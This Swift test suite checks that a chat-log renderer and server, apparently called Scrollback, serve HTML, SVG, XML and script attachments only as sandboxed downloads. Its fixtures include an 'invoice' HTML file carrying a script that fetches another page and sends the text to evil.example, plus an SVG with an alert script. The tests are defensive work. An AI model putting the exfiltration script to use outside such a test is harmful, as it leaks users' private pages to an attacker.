import Foundation
import Scrollback
import ScrollbackServe
import TestSupport
import Testing

@testable import ScrollbackCLI

/// Attachments of active types (HTML, SVG, XML, scripts) are never shown or served as pages.
@Suite("Active attachments", .serialized)
struct ActiveMediaTests {
    static let script =
        "<script>fetch('/other/index.html').then(r => r.text()).then(t => fetch('https://evil.example/?' + t))</script>"
    static let html = "<!doctype html><title>Invoice</title>" + script
    static let svg = #"<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>"#

    /// A folder with a log sending `invoice.html` (shown as "invoice.pdf"), a linked SVG, a
    /// script, an XML file, an SVG shown as an image and a PNG; and a second small log.
    struct Inputs {
        let folder: TemporaryFolder
        var chat: String { folder.path("in/chat.json") }
        var other: String { folder.path("other/other.json") }

        init() throws {
            folder = try TemporaryFolder()
            try folder.write("in/invoice.html", ActiveMediaTests.html)
            try folder.write("in/drawing.svg", ActiveMediaTests.svg)
            try folder.write(
                "in/picture.svg", ActiveMediaTests.svg.replacingOccurrences(of: "alert(1)", with: "alert(2)"))
            try folder.write("in/tool.js", "alert(3)")
            try folder.write("in/feed.xml", "<x/>")
            try folder.write("in/photo.png", bytes: MediaPathTests.png)
            let attachments = [
                ("invoice.html", "file", "invoice.pdf"), ("drawing.svg", "file", "drawing.svg"),
                ("tool.js", "file", "tool.js"), ("feed.xml", "file", "feed.xml"),
                ("picture.svg", "image/svg+xml", "picture.svg"), ("photo.png", "image/png", "photo.png"),
            ].enumerated().map { index, item in
                #"{"id": "m\#(index + 1)", "sender": "ben", "time": "2026-11-28T09:1\#(index):00Z", "text": "see", "#
                    + #""attachments": [{"path": "\#(item.0)", "type": "\#(item.1)", "name": "\#(item.2)"}]}"#
            }
            try folder.write("in/chat.json", Hostile.nativeLog(attachments))
            try folder.write("other/other.json", Hostile.nativeLog([Hostile.message(id: "o1", text: "private")]))
        }
    }

    /// The `href`s of the page's file chips with whether each has `download`, by the name shown.
    static func chips(_ html: String) -> [String: (href: String, download: Bool)] {
        var found: [String: (String, Bool)] = [:]
        var rest = html[...]
        while let open = rest.range(of: "<a class=\"sb-file") {
            let tagEnd = rest[open.upperBound...].firstIndex(of: ">")!
            let tag = rest[open.lowerBound..<tagEnd]
            let nameStart = rest.range(of: "<span class=\"sb-file-name\" dir=\"auto\">", range: tagEnd..<rest.endIndex)!
            let nameEnd = rest[nameStart.upperBound...].firstIndex(of: "<")!
            let href = tag.range(of: "href=\"").map { start in
                String(tag[start.upperBound...].prefix { $0 != "\"" })
            }
            found[String(rest[nameStart.upperBound..<nameEnd])] = (href ?? "", tag.contains(" download"))
            rest = rest[nameEnd...]
        }
        return found
    }

    @Test("A site renames HTML, SVG, XML and script copies and links them as downloads; images stay images")
    func siteCopies() throws {
        let inputs = try Inputs()
        defer { inputs.folder.remove() }
        let site = inputs.folder.path("site")
        let run = CLIRunner.run(["site", inputs.chat, "-o", site])
        try #require(run.status == 0, "\(run.stderr)")
        let media = try FileManager.default.contentsOfDirectory(atPath: site + "/media")
        let active = ["html", "htm", "xhtml", "svg", "xml", "js", "mjs"]
        let pageFile = try FileManager.default.subpathsOfDirectory(atPath: site).first {
            $0.hasSuffix(".html") && $0.contains("/") && !$0.hasPrefix("media/") && !$0.hasSuffix("calendar.html")
        }
        let page = try String(contentsOfFile: site + "/" + (try #require(pageFile)), encoding: .utf8)
        let chips = Self.chips(page)
        for name in ["invoice.pdf", "drawing.svg", "tool.js", "feed.xml"] {
            let chip = try #require(chips[name], "\(name) in \(chips.keys.sorted())")
            #expect(chip.download, "\(name) is linked without download")
            let file = String(chip.href.dropFirst("../media/".count))
            #expect(media.contains(file))
            #expect(!active.contains((file as NSString).pathExtension), "\(file) keeps an active extension")
        }
        // Only the SVG shown as an image keeps its extension: an <img> runs no script.
        let svgs = media.filter { ["svg"].contains(($0 as NSString).pathExtension) }
        #expect(svgs.count == 1)
        #expect(page.contains("<img") && page.contains("../media/\(svgs.first ?? "-")"))
        for file in media where active.contains((file as NSString).pathExtension) && !svgs.contains(file) {
            Issue.record("\(file) is served under an active extension")
        }
        #expect(media.contains { $0.hasSuffix(".png") })
    }

    @Test("A page links active files as downloads, inlined or by path")
    func pageDownloads() throws {
        let inputs = try Inputs()
        defer { inputs.folder.remove() }
        let page = inputs.folder.path("page.html")
        let run = CLIRunner.run(["render", inputs.chat, "-o", page])
        try #require(run.status == 0, "\(run.stderr)")
        let chips = Self.chips(try String(contentsOfFile: page, encoding: .utf8))
        for name in ["invoice.pdf", "drawing.svg", "tool.js", "feed.xml"] {
            #expect(chips[name]?.download == true, "\(name)")
        }
        // A page that links its files by path rather than inlining them links them as downloads too.
        let read = try Readers.read(try ChatInput.load(inputs.chat))
        let options = HTMLOptions(selfContained: false, mediaBaseDirectory: inputs.folder.path("in"))
        let linked = Self.chips(
            try #require(read.conversations.first).render(.html, options: RenderOptions(html: options)))
        for (name, path) in [
            ("invoice.pdf", "invoice.html"), ("drawing.svg", "drawing.svg"), ("tool.js", "tool.js"),
            ("feed.xml", "feed.xml"),
        ] {
            #expect(
                linked[name]?.href == path && linked[name]?.download == true,
                "\(name): \(String(describing: linked[name]))")
        }
    }

    @Test("serve sends attachments as downloads under a sandbox policy, never with its script; images inline")
    func serveHeaders() throws {
        let inputs = try Inputs()
        defer { inputs.folder.remove() }
        let arguments = try Arguments.parse(
            [inputs.chat, inputs.other], specs: OptionCatalog.specs(for: .serve), command: "serve")
        let console = Console(out: { _ in }, err: { _ in }, environment: [:])
        let site = try ServeSite(
            inputs: arguments.positionals, arguments: arguments,
            options: try SharedOptions.renderOptions(arguments, console: console), token: "t", console: console)
        defer { site.remove() }
        let server = LiveServer(resources: site.resources)
        let pagePath = try #require(
            site.resources.keys.sorted().first { path in
                guard case .page = site.resources[path] else { return false }
                return Self.body(server.respond(HTTPRequest(method: "GET", path: path))).contains("invoice.pdf")
            })
        let page = Self.body(server.respond(HTTPRequest(method: "GET", path: pagePath)))
        let chips = Self.chips(page)
        let folder = pagePath.split(separator: "/").dropLast().joined(separator: "/")
        func address(_ href: String) -> String {
            ("/" + folder + "/" + href as NSString).standardizingPath
        }
        for name in ["invoice.pdf", "drawing.svg", "tool.js", "feed.xml"] {
            let chip = try #require(chips[name], "\(name)")
            let response = server.respond(HTTPRequest(method: "GET", path: address(chip.href)))
            #expect(response.status == 200, "\(name) at \(address(chip.href))")
            let headers = Dictionary(
                response.headers.map { ($0.0.lowercased(), $0.1) }, uniquingKeysWith: { a, _ in a })
            #expect(headers["content-disposition"] == "attachment", "\(name)")
            #expect(headers["x-content-type-options"] == "nosniff")
            #expect(headers["content-type"] == "application/octet-stream", "\(name)")
            let policy = headers["content-security-policy"] ?? ""
            #expect(policy.contains("sandbox") && policy.contains("default-src 'none'"), "\(policy)")
            let body = Self.body(response)
            #expect(!body.contains("data-sb-events") && !body.contains(LivePage.scriptSource.dropFirst(8).dropLast()))
        }
        // The HTML attachment comes back as its own bytes, nothing added.
        let invoice = server.respond(HTTPRequest(method: "GET", path: address(chips["invoice.pdf"]!.href)))
        #expect(Self.body(invoice) == Self.html)
        // Images are still shown.
        let png = try #require(site.resources.keys.first { $0.hasPrefix("/media/") && $0.hasSuffix(".png") })
        let image = server.respond(HTTPRequest(method: "GET", path: png))
        let headers = Dictionary(image.headers.map { ($0.0.lowercased(), $0.1) }, uniquingKeysWith: { a, _ in a })
        #expect(headers["content-type"] == "image/png")
        #expect(headers["content-disposition"] == nil)
        #expect(headers["x-content-type-options"] == "nosniff")
        #expect(headers["content-security-policy"]?.contains("sandbox") == true)
    }

    static func body(_ response: HTTPResponse) -> String {
        guard case .bytes(let bytes) = response.body else { return "" }
        return String(decoding: bytes, as: UTF8.self)
    }
}
